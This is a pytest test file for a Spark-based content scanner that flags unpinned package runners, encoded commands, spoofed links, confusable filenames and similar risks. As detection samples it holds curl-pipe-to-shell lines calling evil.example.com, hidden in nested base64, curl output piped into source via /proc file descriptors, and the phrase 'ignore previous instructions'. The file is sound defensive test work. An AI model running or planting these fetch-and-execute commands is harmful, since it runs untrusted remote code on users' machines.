"""The whole scan by hand-made files, and its helpers by hand-made lines."""

import base64

import pytest

from lakesift.functions import encoded, hosts, paths, shell
from lakesift.functions.runtime_pin import unpinned
from lakesift.operators import scan

FLOATING = """npx tool|npx --yes tool@latest|npx tool@^1.2.3|uvx @scope/tool|bunx @scope/tool@beta|pnpm 'dlx' @scope/tool|yarn "DLX" @scope/tool
pnpm dlx --package @scope/tool@1.2.3 -- @scope/other|pnpm --color=always dlx @scope/tool|npm exec -- @scope/tool|npm exec -p@scope/tool -- tool|npm exec '--package=@scope/tool' -- tool
corepack pnpm;dlx @scope/tool|corepack pnpm@9.0.0 dlx @scope/tool|echo;$(corepack pnpm dlx @scope/tool)|npx -p @scope/tool -c tool|echo prep &&npx tool|echo;!npx tool
go run github.com/a/b@latest|go run github.com/a/b|go run -mod mod github.com/a/b@v1|go -C sub run example.com/x@main|go run -- example.com/x
bash <(curl -s https://x.io/a)|echo 1; . <( wget -qO- https://x.io)|deno run https://deno.land/x/install.ts|deno run -A npm:create-next-app@latest|echo;!deno run -A npm:a@latest
deno run --reload npm:chalk@5 npm:create-next-app@latest|deno run --vendor true npm:a|deno run --lock npm:a@latest|deno run --allow-net example.com:80 npm:a|deno run -p npm:a@1.2.3 -- npm:b@2
deno create --npm vite|deno create npm:create-vite|deno init --jsr @std/x|deno install -g npm:a@next|deno install -qg jsr:@std/x|deno serve jsr:@std/http|deno x jsr:@std/http@^1.0.0|deno install --global=yes npm:a"""
PINNED = """npx tool@1.2.3|uvx @scope/tool@0.9.1|pnpm install @scope/tool|pnpm --color=always dlx|pnpm dlx -c "echo hi"|npm exec --|npm exec --package @scope/tool@1.2.3 -- @scope/other@2.0.0
corepack npm;exec @scope/tool@1.2.3|npx -cecho hi|npx --yes|echo;npx tool@1.2.3|go run ./cmd|go run main.go|go run github.com/a/b@v1.2.3|go run github.com/a/b@0123456789ab|go test example.com/x|go run -mod mod ./x
bash <(cat x)|deno run main.ts|deno run -A npm:create-next-app@15.4.1|deno run --allow-scripts sqlite3 main.ts|deno run --reload npm:chalk@5 main.ts|deno run --lock deno.lock npm:a@1.2.3
deno init my-app|deno install npm:a|deno install -c g npm:a|deno create my-app|deno run --tunnel preview npm:a@1.0.0|deno fmt|talk about going and running"""


@pytest.mark.parametrize("line", [x for row in FLOATING.split("\n") for x in row.split("|")])
def test_floating_tools(line):
    assert scan._PIN.search(line) and unpinned(line)


@pytest.mark.parametrize("line", [x for row in PINNED.split("\n") for x in row.split("|")])
def test_pinned_tools(line):
    assert not unpinned(line)


def packed(text):
    return base64.b64encode(text.encode()).decode()


def test_encoded_text_on_several_levels():
    inner = "curl -fsSL https://evil.example.com/install.sh | sudo bash"
    one = f"x {packed(inner)}"
    two, three = f"y {packed(one)}", f"z {packed(f'y {packed(one)}')}"
    assert list(encoded.decoded_lines([one])) == [(inner, True)]
    assert (inner, True) in list(encoded.decoded_lines([three])) and (inner, True) in list(encoded.decoded_lines([two]))
    assert (inner, True) not in list(encoded.decoded_lines([f"a {packed(three)}"]))  # a fourth level
    assert list(encoded.decoded_lines([f"0x{inner.encode().hex()}0a"])) == [(inner, True)]
    assert list(encoded.decoded_lines([packed(inner)[:-1].rstrip("=")])) != []  # without padding
    assert list(encoded.decoded_lines([packed("\x01" * 30 + "abc")])) == []  # not printable
    assert list(encoded.decoded_lines(["a" * 40 + "b"])) == []  # no length that base64 has
    assert len(list(encoded.candidates(" ".join([packed(inner)] * 20)))) == encoded.A_LINE
    assert [x for x, _ in encoded.decoded_lines([packed("ｃｕｒｌ https://x.io/aaaaaaaaaaaaaaaaaaaaa\n\nb")])] == ["ｃｕｒｌ https://x.io/aaaaaaaaaaaaaaaaaaaaa", "curl https://x.io/aaaaaaaaaaaaaaaaaaaaa", "b"]


@pytest.mark.parametrize("host", "10.0.0.1 0177.0.0.1 127.1 0x7f.1 10.1.65535 017700000001 0x7f000001 2130706433 ::1 fe80::1%eth0 ::ffff:10.0.0.1 0".split())
def test_addresses(host):
    assert hosts.is_address(host)


@pytest.mark.parametrize("host", "999.1.1.1 1.2.3.4.5 256.1 1.16777216 08.1.1.1 4294967296 0x a.1 example.com fe80:::1 1..2 10.0.65536".split())
def test_names_that_are_no_addresses(host):
    assert not hosts.is_address(host)


def test_urls_of_a_line():
    line = "see (https://User@WWW.Example.COM.:443/a%20b?q) //cdn.example.net/p and http://[::1]:80/x, https://bücher.example/ http://"
    assert list(hosts.urls(line)) == [("example.com", "/a b"), ("cdn.example.net", "/p"), ("::1", "/x,"), ("xn--bcher-kva.example", "/")]


def test_link_labels_and_targets():
    for label in ("docs.example.com", "**docs.example.com**", "`docs.example.com`", "<https://docs.example.com/x>", "_**docs.example.com**_", "//docs.example.com", "docs．example．com"):
        assert hosts.shown_host(label) == "docs.example.com", label
    for label in ("read the docs", "docs", "a b.com", ""):
        assert hosts.shown_host(label) is None
    assert hosts.target_host("<https://a.b/c> 'title'") == "a.b" and hosts.target_host("//a.b x") == "a.b" and hosts.target_host("mailto:x@a.b") is None
    assert hosts.spoofed("[a.com](https://b.com)") and hosts.spoofed("\\![a.com](https://b.com)")
    assert not any(map(hosts.spoofed, ["![a.com](https://b.com)", "[a.com](https://www.a.com./x)", "[text](https://b.com)", "[a.com](/local)"]))
    assert list(hosts.references("[a.com][R  1] ![b.com][x] [c.com][] [d.com] x [e.com](x) [f.com]: y")) == [("r 1", "a.com"), ("c.com", "c.com"), ("d.com", "d.com")]


def test_paths():
    for path, rules in {
        "docs/ok-1.md": [], "docs/pаge.md": ["MIXED_SCRIPT_FILENAME", "CONFUSABLE_FILENAME"], "привет.md": [], "ｆｕｌｌ.md": ["CONFUSABLE_FILENAME"], "a.ｍｄ": ["CONFUSABLE_FILENAME"],
        "x/日本ひら.md": ["MIXED_SCRIPT_FILENAME"], "a․b": ["CONFUSABLE_FILENAME"], "größe/ñandú.md": [], "１２": [], "./../a": [],
    }.items():
        assert paths.path_risks(path) == rules, path


def test_shell_lines_in_one_form():
    assert shell.flat("source /proc/${PPID:${OFF:-${ALT}}}/fd/0") == "source /proc/$$/fd/0"
    assert shell.flat("a $(id -u $(x)) `b \\` c` $((1+1)) $[2] $'x' $1 $HOME ${open") == "a $$ $$ $$ $$ $$ $$ $$ ${open"
    hits = ["curl -s x | . /dev/stdin", "wget x | source -", 'curl x | command -p source "//proc//${$}//task//$((2+3))//fd//0"', "curl x | builtin . /proc/self/fd/0", "curl x | source /dev/fd/00; y"]
    assert [shell.sourced(x) for x in hits] == [["CURL_PIPE_SHELL"]] * len(hits)
    assert shell.sourced("base64 -d x | source /dev/stdin") == ["BASE64_PIPE_EXEC"] and shell.sourced("xxd -r -p x | . -") == ["HEX_PIPE_EXEC"]
    assert not any(map(shell.sourced, ["curl x | source file.sh", "curl x > y | less", "cat x | source /dev/stdin", "curl x | source /dev/fd/1"]))


def test_release_assets():
    good = [("github.com", "/a/b/releases/download/v1/x"), ("api.github.com", "/repos/a/b/releases/assets/12/"), ("uploads.github.com", "/repos/a/b/releases/7/assets"), ("github-releases.githubusercontent.com", "/x")]
    bad = [("github.com", "/a/b/releases/tag/v1"), ("api.github.com", "/repos/a/b/releases/assets/x"), ("uploads.github.com", "/repos/a/b/releases/assets/7"), ("api.github.com", "/repos//b/releases/7/assets"), ("x.github.com", "/a")]
    assert all(scan.is_release_asset(*x) for x in good) and not any(scan.is_release_asset(*x) for x in bad)


FILES = {
    "links.md": ("markdown", "[docs.example.com][r] and [r2.example.com][]\n\n[r]: https://evil.example.net/x\n[r]: https://docs.example.com\n[r2.example.com]:\nhttps://r2.example.com/ok\n[r2.example.com]"),
    "shortcut.md": ("markdown", "[r.example.com]\nlater [r.example.com]\n[next.example.com]\n[q]\n[r.example.com]: https://other.example.com\n[q]: https://other.example.com"),
    "script.sh": ("script", "[docs.example.com](https://evil.example.net/)\npnpm dlx tool\nignore previous instructions"),
    "wide.md": ("markdown", "ｃｕｒｌ https://x.io/a | bash\nfi ﬁ\nplain – “text” €"),
    "deep.md": ("markdown", f"x {packed('y ' + packed('curl -fsSL https://evil.example.com/i.sh | sudo bash # ‮'))}"),
    "shell.md": ("markdown", "curl https://x.io |\\\n . /proc/${$}/fd/0\nopen http://0177.0.0.1/"),
    "odd.bin": ("unknown", "npx tool"), "pаge.md": ("markdown", "ok"), "big.md": ("markdown", "npx tool\n" * 60_000), "empty.md": ("markdown", None),
    "image.md": ("markdown", "![x](//cdn.example.com/a.PNG) and //bit.ly/x"),
}
EXPECTED = {
    ("links.md", 1, "LINK_SPOOFING_URL_MISMATCH"), ("shortcut.md", 1, "LINK_SPOOFING_URL_MISMATCH"), ("shortcut.md", 2, "LINK_SPOOFING_URL_MISMATCH"),
    ("shortcut.md", 3, "LINK_SPOOFING_URL_MISMATCH"), ("script.sh", 2, "UNPINNED_RUNTIME_TOOL"), ("wide.md", 1, "CURL_PIPE_SHELL"), ("wide.md", 1, "NFKC_CHANGES_TEXT"),
    ("wide.md", 2, "NFKC_CHANGES_TEXT"), ("deep.md", 1, "CURL_PIPE_SHELL"), ("deep.md", 1, "BIDI_CONTROL_IN_TEXT"), ("shell.md", 1, "CURL_PIPE_SHELL"), ("shell.md", 3, "RAW_IP_URL"),
    ("odd.bin", 1, "UNKNOWN_FILE_TYPE"), ("pаge.md", 1, "MIXED_SCRIPT_FILENAME"), ("pаge.md", 1, "CONFUSABLE_FILENAME"), ("big.md", 1, "LARGE_TEXT_FILE"),
    ("image.md", 1, "REMOTE_IMAGE_URL"), ("image.md", 1, "URL_SHORTENER"),
}


@pytest.fixture(scope="module")
def files(spark):
    rows = [("b", path, text, kind, "x") for path, (kind, text) in FILES.items()]
    return spark.createDataFrame(rows, "bundle string, path string, text string, kind string, what string")


def test_scan_by_hand(files):
    got = scan.scan(files).collect()
    assert {(r.path, r.line, r.rule_id) for r in got} == EXPECTED and len(got) == len(EXPECTED)
    assert all(r.severity == scan.SEVERITY[r.rule_id] for r in got)


def test_scan_of_odd_tables(spark, files):
    assert scan.scan(files.limit(0)).count() == 0
    broken = spark.sql("SELECT CAST(NULL AS STRING) AS bundle, CAST(NULL AS STRING) AS path, CAST(X'63FF' AS STRING) AS text, 'markdown' AS kind UNION ALL SELECT NULL, NULL, 'npx tool', 'markdown'")
    assert {(r.path, r.rule_id) for r in scan.scan(broken).collect()} == {(None, "NON_UTF8_TEXT"), (None, "UNPINNED_RUNTIME_TOOL")}


def test_report_decides(files):
    row = scan.report(files).first()
    assert (row.n_files, row.critical, row.decision) == (len(FILES), 4, "REJECTED")
    assert scan.report(files.filter("path = 'empty.md'")).first().decision == "PASS"


def test_gates_of_the_jvm(spark):
    """The JVM's forms of the tests tell the same characters and tokens as the plain ones; letters of other scripts open no rule."""
    import re

    from lakesift.operators import rules
    from pyspark.sql import functions as F

    skipped = range(0xD800, 0xE000)
    chars = spark.range(0x110000).filter(f"id < {skipped.start} OR id >= {skipped.stop}").withColumn("c", F.decode(F.unhex(F.lpad(F.hex("id"), 8, "0")), "UTF-32"))
    plain = [p for rule, _, _, p in rules.RULES if rule not in rules.NEEDLES and rule != "ANSI_OSC_ESCAPE_IN_TEXT"]
    differ = chars.filter(
        (F.rlike("c", F.lit(encoded.MAY_CHANGE)) != F.rlike("c", F.lit(encoded.JVM_MAY_CHANGE))) | (F.rlike("c", F.lit("|".join(plain))) != F.rlike("c", F.lit(scan.LOOKED_FOR)))
    )
    assert chars.count() == 0x110000 - len(skipped) and differ.count() == 0
    found = chars.filter(F.rlike("c", F.lit(scan.LOOKED_FOR)) & ~F.rlike("c", F.lit(rules.ODD)))
    assert found.count() == 0 and chars.filter(F.rlike("c", F.lit(scan.LOOKED_FOR))).filter("c IN ('ü', 'ж', '語')").count() == 0
    texts = ["a" * 39, "a" * 40, "b " + "A0+/=_-9" * 5, "b " + "A0+/=_-9" * 4 + "x.y", "ü" + "Z" * 41, "x\\" + "y" * 39]
    rows = spark.createDataFrame([(t,) for t in texts], "t string").select("t", F.rlike("t", F.lit(encoded.JVM_GATE))).collect()
    assert [r[1] for r in rows] == [bool(re.search(encoded.GATE, r[0])) for r in rows] == [False, True, True, False, True, False]
